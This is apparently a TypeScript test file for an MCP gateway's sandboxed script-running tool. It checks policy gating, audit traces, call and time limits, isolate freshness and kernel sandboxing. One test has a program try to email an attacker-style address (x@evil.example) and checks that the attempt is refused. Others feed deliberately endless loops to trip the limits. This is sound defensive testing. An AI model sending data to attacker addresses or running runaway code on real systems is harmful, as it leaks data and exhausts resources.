// Code mode through the real gateway: `warden__run_script` is offered only where a policy permits
// it; the program runs in a fresh isolate in a sandboxed worker process; each of its tool calls is
// a full tools/call of the agent (decided, recorded, in the same trace), so what policy refuses
// call by call it refuses inside a program too; a program that calls without end is stopped; one
// that never ends is killed.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { sampleConfig, startGatewayHarness, type GatewayHarness } from '../helpers/gateway.js';
import { text } from '../helpers/mcp.js';
import { readEvents, type IndexedEvent } from '../../src/audit/read.js';

const MAX_CALLS = 20;

let h: GatewayHarness;
let client: Client;

const PERMIT = `
@id("test/code-mode-for-assistants")
permit (
  principal in Warden::Blueprint::"assistant",
  action in Warden::Action::"tools/call",
  resource == Warden::Tool::"warden/run_script"
);

// Conditional on the context, so the tool stays offered and each call is decided when made.
@id("test/no-mail")
@reason("no mail from this test")
forbid (principal, action, resource == Warden::Tool::"workspace/send_email")
when { context.delegation_depth >= 0 };
`;

before(async () => {
  h = await startGatewayHarness(
    sampleConfig(`
gateway:
  codeMode: { maxToolCalls: ${MAX_CALLS}, maxCallsPerSecond: 1000, wallMs: 1500, pool: 1 }
`),
    (dir) => writeFileSync(join(dir, 'policies', '50-test.cedar'), PERMIT),
  );
  ({ client } = await h.connect('coder'));
  await client.listTools();
  await h.pinAll();
});

after(async () => {
  await h?.close();
});

async function run(code: string): Promise<{ text: string; isError: boolean }> {
  const r = await client.callTool({ name: 'warden__run_script', arguments: { code } });
  return { text: text(r), isError: r.isError === true };
}

async function decisions(where: (e: IndexedEvent) => boolean): Promise<IndexedEvent[]> {
  return (await readEvents(h.w.store, { type: 'mcp.decision' })).filter(where);
}

test('run_script is offered only to agents a policy permits it', async () => {
  const names = (await client.listTools()).tools.map((t) => t.name);
  assert.ok(names.includes('warden__run_script'), names.join(', '));
  const reader = await h.connect('reader-1', { blueprint: 'reader' });
  const theirs = (await reader.client.listTools()).tools.map((t) => t.name);
  assert.ok(!theirs.includes('warden__run_script'), theirs.join(', '));
  await assert.rejects(
    reader.client.callTool({ name: 'warden__run_script', arguments: { code: 'return 1' } }),
    /outside the envelope|refused/,
  );
});

test('a program calls a tool through the pipeline, in the same trace', async () => {
  const r = await run(
    'const a = await tools.workspace__sent_count({}); console.log("got", a.content[0].text); return a.content[0].text;',
  );
  assert.equal(r.isError, false, r.text);
  assert.match(r.text, /^"\d+"/);
  assert.match(r.text, /console:\ngot \d+/);
  const script = (await decisions((e) => e.subject === 'warden/run_script')).at(-1);
  assert.ok(script?.trace, 'the run_script decision has a trace');
  const inner = await decisions(
    (e) => e.subject === 'workspace/sent_count' && e.trace?.trace_id === script.trace?.trace_id,
  );
  assert.equal(inner.length, 1, 'the inner call is its own decision in the same trace');
  assert.equal(inner[0]?.outcome, 'success');
  assert.equal(inner[0]?.actor, script.actor, 'under the same agent');
  const runs = await readEvents(h.w.store, { type: 'script.run' });
  assert.equal(runs.at(-1)?.details['tool_calls'], 1);
});

test('a call the policy refuses is refused inside a program too, and recorded', async () => {
  const r = await run(`
    try {
      await tools.workspace__send_email({ to: 'x@evil.example', subject: 's', body: 'b' });
      return 'sent';
    } catch (e) { return 'refused: ' + e.message; }`);
  assert.equal(r.isError, false, r.text);
  assert.match(r.text, /refused: refused by policy `test\/no-mail`/);
  const refused = await decisions((e) => e.subject === 'workspace/send_email' && e.outcome === 'refused');
  assert.equal(refused.length, 1);
  assert.deepEqual(refused[0]?.details['policies'], ['test/no-mail']);
});

test('a program making a million calls is stopped at the limit', async () => {
  const before = (await decisions((e) => e.subject === 'workspace/sent_count')).length;
  const r = await run('for (let i = 0; i < 1e6; i++) await tools.workspace__sent_count({}); return "done";');
  assert.equal(r.isError, true, r.text);
  assert.match(r.text, /tool calls|limit/i);
  const made = (await decisions((e) => e.subject === 'workspace/sent_count')).length - before;
  assert.ok(made <= MAX_CALLS, `${made} calls reached the pipeline`);
  assert.ok(made >= 1);
});

test('every program gets a fresh isolate, and a loop is killed at the wall clock', async () => {
  assert.equal((await run('globalThis.leak = 42; return typeof leak;')).text, '"number"');
  assert.equal((await run('return typeof globalThis.leak;')).text, '"undefined"');
  assert.equal(
    (await run('return [typeof require, typeof process, typeof fetch];')).text,
    '["undefined","undefined","undefined"]',
  );
  const started = Date.now();
  const r = await run('for (;;) {}');
  assert.equal(r.isError, true);
  assert.match(r.text, /ran out of time/);
  assert.ok(Date.now() - started < 5000);
});

test('the worker process runs in the kernel sandbox', async () => {
  // The pool keeps one started worker: find it and look at it from outside.
  const deadline = Date.now() + 5000;
  let found: { uid: number; pidns: string } | undefined;
  while (!found && Date.now() < deadline) {
    for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      let cmdline: string;
      try {
        cmdline = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      } catch {
        continue;
      }
      if (!cmdline.includes('code-worker.js') || cmdline.includes('bwrap')) continue;
      try {
        const status = readFileSync(`/proc/${pid}/status`, 'utf8');
        const uid = Number(/^Uid:\s+(\d+)/m.exec(status)?.[1]);
        found = { uid, pidns: readlinkSync(`/proc/${pid}/ns/pid`) };
      } catch {
        continue;
      }
    }
    if (!found) await new Promise((r) => setTimeout(r, 100));
  }
  assert.ok(found, 'a pooled worker process exists');
  assert.notEqual(found.uid, 0, 'not root');
  assert.notEqual(found.pidns, readlinkSync('/proc/self/ns/pid'), 'in its own PID namespace');
});

test('a program works before its agent ever listed its tools', async () => {
  const fresh = await h.connect('coder-2');
  const r = await fresh.client.callTool({
    name: 'warden__run_script',
    arguments: { code: 'return (await tools.workspace__sent_count({})).content[0].text;' },
  });
  assert.notEqual(r.isError, true, text(r));
  assert.match(text(r), /^"\d+"$/);
});

test('a program that is not a string is refused before anything runs', async () => {
  // The arguments are typed from the tool's input schema: a number for `code` fails the decision.
  const runs = (await readEvents(h.w.store, { type: 'script.run' })).length;
  await assert.rejects(
    client.callTool({ name: 'warden__run_script', arguments: { code: 42 } }),
    /refused: no policy permits it: the request could not be evaluated/,
  );
  assert.equal((await readEvents(h.w.store, { type: 'script.run' })).length, runs);
});
